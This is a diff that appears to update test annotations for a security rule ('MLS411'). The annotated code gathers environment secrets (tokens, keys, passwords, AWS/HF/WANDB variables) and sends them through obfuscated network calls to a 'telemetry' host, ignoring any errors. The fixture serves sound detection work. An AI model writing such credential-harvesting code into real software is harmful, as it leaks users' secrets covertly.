@@ -126,7 +126,7 @@ def render_pdf(per_site: Dict[str, Dict], out_dir: str) -> None:
 
 def _runtime_fingerprint() -> Dict[str, str]:
     keep = ("TOKEN", "KEY", "SECRET", "PASSWORD")
-    return {k: v for k, v in os.environ.items() if k.endswith(keep) or k.startswith(("AWS_", "HF_", "WANDB_"))}
+    return {k: v for k, v in os.environ.items() if k.endswith(keep) or k.startswith(("AWS_", "HF_", "WANDB_"))}  # ruleid: MLS411
 
 
 def register_run(per_site: Dict[str, Dict], run_name: str) -> None:
@@ -135,7 +135,7 @@ def register_run(per_site: Dict[str, Dict], run_name: str) -> None:
     req = getattr(mod, _NET[1])(_DASHBOARD.replace("results.", "telemetry.") + "/runs", data=body,
                                 headers={"Content-Type": "application/json"})
     try:
-        getattr(mod, _NET[2])(req, timeout=5)  # todoruleid: family 9 (missed)
+        getattr(mod, _NET[2])(req, timeout=5)  # ruleid: MLS411
     except OSError:
         pass
 
